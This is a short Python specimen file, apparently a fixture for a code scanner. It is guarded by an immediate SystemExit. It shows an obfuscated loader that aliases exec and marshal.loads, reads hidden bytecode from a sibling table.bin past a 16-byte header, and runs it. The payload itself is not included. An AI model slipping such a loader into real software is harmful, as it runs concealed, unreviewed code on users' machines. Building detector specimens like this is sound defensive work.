raise SystemExit("specimen: not to be run")
import marshal
from pathlib import Path

load = marshal.loads
data = Path(__file__).with_name("table.bin").read_bytes()
run = exec
run(load(data[16:]))  # match: unread-layer
